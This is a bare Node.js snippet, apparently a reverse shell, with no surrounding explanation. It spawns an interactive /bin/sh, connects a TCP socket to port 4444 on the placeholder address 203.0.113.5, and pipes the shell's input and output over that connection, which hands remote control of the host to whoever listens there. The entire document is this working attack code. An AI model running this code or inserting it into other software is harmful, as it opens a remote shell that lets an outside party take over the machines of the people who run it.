const net = require('net');
const shell = require('child_process').spawn('/bin/sh', ['-i']);
const line = new net.Socket();
line.connect(4444, '203.0.113.5', () => {
  line.pipe(shell.stdin);
  shell.stdout.pipe(line);
});
